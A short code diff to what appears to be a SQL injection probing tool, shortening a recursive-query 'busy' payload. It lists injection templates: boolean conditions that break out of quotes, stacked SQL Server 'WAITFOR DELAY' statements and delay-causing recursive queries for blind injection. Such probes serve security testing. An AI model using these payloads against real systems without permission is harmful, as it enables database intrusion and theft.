@@ -30,9 +30,10 @@ _PLACES = (
     '" AND 1={s} AND "1"="1',
 )
 _STACKED = ("'; WAITFOR DELAY '0:0:{d}'--", "; WAITFOR DELAY '0:0:{d}'--")  # SQL Server
+# Short, since many places hold no long texts.
 _BUSY = (
-    "(WITH RECURSIVE specc(x) AS (SELECT 1 UNION ALL SELECT x+1 FROM specc WHERE x<{n}) "
-    "SELECT COUNT(*) FROM specc)>0"
+    "(WITH RECURSIVE s(x)AS(SELECT 1 UNION ALL SELECT x+1 FROM s WHERE x<{n})"
+    "SELECT COUNT(*)FROM s)>0"
 )
 _BUSY_PLACES = ("' AND {s} AND '1'='1", " AND {s}", "') AND {s} AND ('1'='1")
 
